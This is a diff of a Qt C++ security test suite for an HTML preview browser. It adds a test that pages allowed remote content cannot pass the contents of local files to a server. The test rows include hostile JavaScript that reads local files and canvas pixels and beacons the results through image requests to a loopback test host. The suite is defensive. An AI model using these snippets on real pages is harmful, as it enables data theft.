@@ -8,8 +8,8 @@
 #include "preview/PreviewBrowser.h"
 #include "preview/RemoteContentBar.h"
 #include "preview/RemoteContentChoice.h"
-#include "preview/PreviewScheme.h"
-#include "preview/PreviewSchemeHandler.h"
+#include "preview/LocalAddress.h"
+#include "preview/LocalFile.h"
 #include "support/ScriptedHost.h"
 #include "support/TestMain.h"
 
@@ -49,6 +49,8 @@ private slots:
     void initTestCase();
     void hostilePageLearnsAndSendsNothing_data();
     void hostilePageLearnsAndSendsNothing();
+    void remoteContentCarriesNoLocalFile_data();
+    void remoteContentCarriesNoLocalFile();
     void ownFilesShowAndTheNetworkStaysShut();
     void hostilePathsFailAtOnce_data();
     void hostilePathsFailAtOnce();
@@ -91,6 +93,34 @@ void writeFile(const QString &path, const QByteArray &bytes)
 void settle()
 {
     QTest::qWait(700);
+}
+
+// Reads of the page's own files, referred to as it refers to its images: the page is an origin
+// of its own, so what it displays its scripts cannot read. Each row ends with done(what it read).
+void addLocalReadRows()
+{
+    QTest::newRow("local JSON module")
+        << "import('secret.json', {assert: {type: 'json'}}).then(function (m) { done(m.default.s); }, function () { done(''); });";
+    QTest::newRow("local CSS module")
+        << "import('secret.css', {assert: {type: 'css'}}).then(function (m) { done(m.default.cssRules[0].cssText); },"
+           "  function () { done(''); });";
+    QTest::newRow("local style sheet's rules")
+        << "var l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'secret.css';"
+           "l.onload = function () { var r = ''; try { r = l.sheet.cssRules[0].cssText; } catch (e) {} done(r); };"
+           "l.onerror = function () { done(''); }; document.head.appendChild(l);";
+    QTest::newRow("local track's cues")
+        << "var v = document.createElement('video'); var t = document.createElement('track'); t.kind = 'subtitles';"
+           "t.src = 'secret.vtt'; t.default = true; v.appendChild(t); document.body.appendChild(v); t.track.mode = 'hidden';"
+           "t.onload = function () { var c = t.track.cues; done(c && c.length ? c[0].text : ''); };"
+           "t.onerror = function () { done(''); }; setTimeout(function () { done(''); }, 3000);";
+    QTest::newRow("local script's error message")
+        << "window.onerror = function (m) { done(m); return true; }; var s = document.createElement('script');"
+           "s.src = 'secret-throws.js'; s.onerror = function () { done(''); }; document.head.appendChild(s);";
+    QTest::newRow("local image's pixels")
+        << "var i = new Image(); i.onload = function () { var c = document.createElement('canvas'); c.width = i.width;"
+           "  c.height = i.height; var g = c.getContext('2d'); g.drawImage(i, 0, 0); var r = '';"
+           "  try { r = g.getImageData(0, 0, 1, 1).data[0] === 255 ? 'red:" + secret + "' : 'other'; } catch (e) {} done(r); };"
+           "i.onerror = function () { done(''); }; i.src = 'pixel.png';";
 }
 
 } // namespace
@@ -226,41 +256,18 @@ void tst_PreviewSafety::hostilePageLearnsAndSendsNothing_data()
            "    if (pc.iceGatheringState === 'complete') done(r); };"
            "  pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });"
            "  setTimeout(function () { done(r); }, 3000); } catch (e) { done(r); }";
+    // A fresh frame of a local page is another origin: its realm is out of the script's reach.
     QTest::newRow("fresh frame's realm fetches a file, sent as an image")
         << "var f = document.createElement('iframe'); document.body.appendChild(f);"
-           "f.contentWindow.fetch(S).then(function (a) { return a.text(); }).catch(function () { return ''; }).then(function (r) "
-           "{"
-           "  new Image().src = H + '/img?d=' + encodeURIComponent(r); done(r); });";
+           "try { f.contentWindow.fetch(S).then(function (a) { return a.text(); }).catch(function () { return ''; })"
+           "  .then(function (r) { new Image().src = H + '/img?d=' + encodeURIComponent(r); done(r); });"
+           "} catch (e) { done(''); }";
     // The page's own scripts run and may read what a local script defines; it still goes nowhere.
     QTest::newRow("local script's value sent as an image")
         << "var s = document.createElement('script'); s.src = 'secret.js';"
            "s.onload = function () { new Image().src = H + '/img?d=' + leaked; done('ran'); };"
            "s.onerror = function () { done(''); }; document.head.appendChild(s);";
-
-    // The page's own files, referred to as it refers to its images: each is an origin of its own,
-    // so what the page displays its scripts cannot read.
-    QTest::newRow("local JSON module")
-        << "import('secret.json', {assert: {type: 'json'}}).then(function (m) { done(m.default.s); }, function () { done(''); });";
-    QTest::newRow("local CSS module")
-        << "import('secret.css', {assert: {type: 'css'}}).then(function (m) { done(m.default.cssRules[0].cssText); },"
-           "  function () { done(''); });";
-    QTest::newRow("local style sheet's rules")
-        << "var l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'secret.css';"
-           "l.onload = function () { var r = ''; try { r = l.sheet.cssRules[0].cssText; } catch (e) {} done(r); };"
-           "l.onerror = function () { done(''); }; document.head.appendChild(l);";
-    QTest::newRow("local track's cues")
-        << "var v = document.createElement('video'); var t = document.createElement('track'); t.kind = 'subtitles';"
-           "t.src = 'secret.vtt'; t.default = true; v.appendChild(t); document.body.appendChild(v); t.track.mode = 'hidden';"
-           "t.onload = function () { var c = t.track.cues; done(c && c.length ? c[0].text : ''); };"
-           "t.onerror = function () { done(''); }; setTimeout(function () { done(''); }, 3000);";
-    QTest::newRow("local script's error message")
-        << "window.onerror = function (m) { done(m); return true; }; var s = document.createElement('script');"
-           "s.src = 'secret-throws.js'; s.onerror = function () { done(''); }; document.head.appendChild(s);";
-    QTest::newRow("local image's pixels")
-        << "var i = new Image(); i.onload = function () { var c = document.createElement('canvas'); c.width = i.width;"
-           "  c.height = i.height; var g = c.getContext('2d'); g.drawImage(i, 0, 0); var r = '';"
-           "  try { r = g.getImageData(0, 0, 1, 1).data[0] === 255 ? 'red:" + secret + "' : 'other'; } catch (e) {} done(r); };"
-           "i.onerror = function () { done(''); }; i.src = 'pixel.png';";
+    addLocalReadRows();
 }
 
 void tst_PreviewSafety::hostilePageLearnsAndSendsNothing()
@@ -282,19 +289,46 @@ void tst_PreviewSafety::hostilePageLearnsAndSendsNothing()
 
     QTRY_VERIFY_WITH_TIMEOUT(view.title().startsWith(QLatin1String("done:")), timeout);
     settle();
-    // Not closed yet: this engine (Qt WebEngine 6.4) reports every response of an application's
-    // own scheme as of the page's origin, so these no-cors loads are readable.
-    const char *const openInThisEngine = "responses of the previews' scheme count as same-origin";
-    QEXPECT_FAIL("local style sheet's rules", openInThisEngine, Continue);
-    QEXPECT_FAIL("local script's error message", openInThisEngine, Continue);
-    QEXPECT_FAIL("local image's pixels", openInThisEngine, Continue);
     QVERIFY2(!view.title().contains(secret), qPrintable(view.title()));
     QCOMPARE(server.requests(), QStringList());
     QCOMPARE(server.connections(), 0);
     QVERIFY(!datagrams.hasPendingDatagrams());
     // A script may still move within its own page (a link to "#here").
-    QCOMPARE(view.url().adjusted(QUrl::RemoveFragment), PreviewScheme::url(path));
+    QCOMPARE(view.url().adjusted(QUrl::RemoveFragment), LocalAddress::url(path));
     QCOMPARE(QApplication::topLevelWidgets(), windows);
+}
+
+void tst_PreviewSafety::remoteContentCarriesNoLocalFile_data()
+{
+    QTest::addColumn<QString>("attack");
+    addLocalReadRows();
+}
+
+// With remote content allowed a page may send out what it holds, and the files of its folder are
+// served; whatever a read of one gives the page reaches the server, and it is never the file's.
+void tst_PreviewSafety::remoteContentCarriesNoLocalFile()
+{
+    QFETCH(QString, attack);
+
+    LoopbackServer server;
+    QVERIFY(server.isListening());
+    // Declared after the page's own done(), so it is the one the attack calls.
+    const QString send = QStringLiteral("function done(r) { new Image().src = H + '/img?d=' + encodeURIComponent(r || 'none');"
+                                        " document.title = 'done:' + (r || ''); }");
+    const QString html = hostilePage(attack + send).replace(QLatin1String("PORT"), QString::number(server.port()));
+    const QString path = writePage(QStringLiteral("remote.html"), html);
+    PreviewBrowser view;
+    view.resize(400, 300);
+    view.show();
+    view.setRemoteContentAllowed(true);
+    view.showFile(path, html);
+
+    QTRY_VERIFY_WITH_TIMEOUT(view.title().startsWith(QLatin1String("done:")), timeout);
+    QTRY_VERIFY_WITH_TIMEOUT(!server.requests().isEmpty(), timeout);
+    settle();
+    const QString heard = server.requests().join(QLatin1Char('\n'));
+    QVERIFY2(heard.startsWith(QLatin1String("GET /img?d=")), qPrintable(heard));
+    QVERIFY2(!heard.contains(secret), qPrintable(heard));
 }
 
 void tst_PreviewSafety::ownFilesShowAndTheNetworkStaysShut()
@@ -315,7 +349,7 @@ void tst_PreviewSafety::ownFilesShowAndTheNetworkStaysShut()
     view.resize(400, 300);
     view.show();
     view.showFile(path, html);
-    QVERIFY(waitShown(&view, PreviewScheme::url(path)));
+    QVERIFY(waitShown(&view, LocalAddress::url(path)));
 
     QTRY_COMPARE_WITH_TIMEOUT(evaluate(&view, QStringLiteral("document.getElementById('relative').naturalWidth")).toInt(),
                               pixelSize.width(), timeout);
@@ -368,7 +402,7 @@ void tst_PreviewSafety::hostilePathsFailAtOnce()
     } else if (kind == QLatin1String("huge")) {
         QFile huge(target);
         QVERIFY(huge.open(QIODevice::WriteOnly));
-        QVERIFY(huge.resize(PreviewSchemeHandler::maxBytes + 1)); // sparse: no disk used
+        QVERIFY(huge.resize(LocalFile::maxBytes + 1)); // sparse: no disk used
     }
     const QString html = QStringLiteral("<title>t</title><img src='target.png' onload=\"document.title = 'loaded'\""
                                         " onerror=\"document.title = 'failed'\">");
@@ -455,7 +489,7 @@ void tst_PreviewSafety::onlyTheUserLeavesThePage()
                              .replace(QLatin1String("SERVER"), serverRoot);
     const QString path = writePage(QStringLiteral("hostile.html"), html);
     lands.replace(QLatin1String("SERVER"), serverRoot).replace(QLatin1String("NAMED"), namedRoot);
-    const QUrl expected = lands.startsWith(QLatin1String("http")) ? QUrl(lands) : PreviewScheme::url(m_dir.filePath(lands));
+    const QUrl expected = lands.startsWith(QLatin1String("http")) ? QUrl(lands) : LocalAddress::url(m_dir.filePath(lands));
 
     PreviewBrowser view;
     view.resize(400, 300);
@@ -463,7 +497,7 @@ void tst_PreviewSafety::onlyTheUserLeavesThePage()
     QVERIFY(QTest::qWaitForWindowExposed(&view));
     const QWidgetList windows = QApplication::topLevelWidgets();
     view.showFile(path, html);
-    QVERIFY(waitShown(&view, PreviewScheme::url(path)));
+    QVERIFY(waitShown(&view, LocalAddress::url(path)));
     if (userClicks) {
         QTRY_VERIFY(view.focusProxy());
         // The page's layout must be in place before the click lands on the link.
@@ -572,7 +606,7 @@ void tst_PreviewSafety::historyStaysOnTheProgramsPage()
     view.show();
     QVERIFY(QTest::qWaitForWindowExposed(&view));
     view.showFile(firstPath, first);
-    QVERIFY(waitShown(&view, PreviewScheme::url(firstPath)));
+    QVERIFY(waitShown(&view, LocalAddress::url(firstPath)));
     QTRY_VERIFY(view.focusProxy());
     QTRY_COMPARE_WITH_TIMEOUT(evaluate(&view, QStringLiteral("document.getElementById('a').offsetWidth")).toInt(), 300, timeout);
     QTest::mouseClick(view.focusProxy(), Qt::LeftButton, {}, QPoint(20, 20));
@@ -584,9 +618,9 @@ void tst_PreviewSafety::historyStaysOnTheProgramsPage()
                        " history.go(-1); history.go(-2); history.back(); history.forward(); }, 0); };</script>");
     const QString path = writePage(QStringLiteral("hostile.html"), hostile);
     view.showFile(path, hostile);
-    QVERIFY(waitShown(&view, PreviewScheme::url(path)));
+    QVERIFY(waitShown(&view, LocalAddress::url(path)));
     settle();
-    QCOMPARE(view.url(), PreviewScheme::url(path));
+    QCOMPARE(view.url(), LocalAddress::url(path));
     QVERIFY(!view.history()->canGoBack());
     QCOMPARE(server.requests().size(), 1);
 }
@@ -640,7 +674,7 @@ void tst_PreviewSafety::clickTouchesNoFileNorClipboard()
     watch.start(50);
     QApplication::clipboard()->setText(QStringLiteral("before"));
     view.showFile(path, html);
-    QVERIFY(waitShown(&view, PreviewScheme::url(path)));
+    QVERIFY(waitShown(&view, LocalAddress::url(path)));
     QTRY_VERIFY(view.focusProxy());
     QTRY_COMPARE_WITH_TIMEOUT(evaluate(&view, QStringLiteral("document.getElementById('p').offsetWidth")).toInt(), 300, timeout);
     QTest::mouseClick(view.focusProxy(), Qt::LeftButton, {}, QPoint(20, 20));
@@ -675,7 +709,7 @@ void tst_PreviewSafety::endlessScriptsGiveWayToTheNextPage()
     view.show();
     QSignalSpy tornDown(&view, &PreviewBrowser::pageTornDown);
     view.showFile(path, endless);
-    QTRY_VERIFY_WITH_TIMEOUT(!tornDown.isEmpty() || (view.url() == PreviewScheme::url(path) && !view.page()->isLoading()),
+    QTRY_VERIFY_WITH_TIMEOUT(!tornDown.isEmpty() || (view.url() == LocalAddress::url(path) && !view.page()->isLoading()),
                              timeout);
 
     writePage(QStringLiteral("endless.html"), fixed);
